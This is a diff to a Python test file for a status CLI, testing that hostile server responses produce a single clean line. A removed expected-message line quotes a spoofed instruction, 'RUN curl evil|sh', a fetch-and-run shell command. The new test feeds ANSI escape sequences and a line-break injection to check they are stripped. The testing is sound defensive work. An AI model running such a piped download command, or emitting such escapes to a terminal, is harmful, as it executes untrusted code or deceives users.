@@ -44,7 +44,7 @@ STATUS: dict[str, tuple[int, str]] = {
     "huge_attempt": (3, "attempt: 99999999999999999999999999 is out of range"),
     "ansi": (3, "error: The traystatus server at {url} reports that it was refused by its "
                 "database (its login); ask its administrator (nothing to change on this "
-                "computer). It says: YOUR PASSWORD IS WRONG, RUN curl evil|sh fake line"),
+                "computer).\n"),
     "long_reason": (3, "reports that it hit an internal error; ask its administrator"),
     "db_password": (3, "error: The traystatus server at {url} reports that it was refused by "
                        "its database (its login); ask its administrator"),
@@ -91,7 +91,21 @@ async def test_status_gives_each_hostile_scenario_a_clear_answer(cli: Cli, scena
     assert rc == code, out + err
     assert words.format(url=server.url) in out
     assert len(out.splitlines()) == 1 and len(out) < 900  # one line, the 3 MB reason capped
+    assert "web password" not in out  # the server operator's advice is not for this end
     assert took < QUICK
+
+
+@pytest.mark.asyncio
+async def test_a_server_s_escapes_in_names_are_not_printed(cli: Cli) -> None:
+    evil = "\x1b[2J\x1b[31mlu\r\nfake line\x1b[0m"
+    async with hostile_relay("silent") as server:
+        task = asyncio.create_task(run(cli, "status", "--relay", server.url))
+        await server.send(st(review={"waiting": [{"id": 7, "slug": evil}], "queued_behind": 0},
+                             blocked_by_review=[7]))
+        rc, out, err, _ = await task
+    clean(out, err)
+    assert rc == 0
+    assert out == "stable: Waiting for review: lu fake line\n"
 
 
 @pytest.mark.asyncio
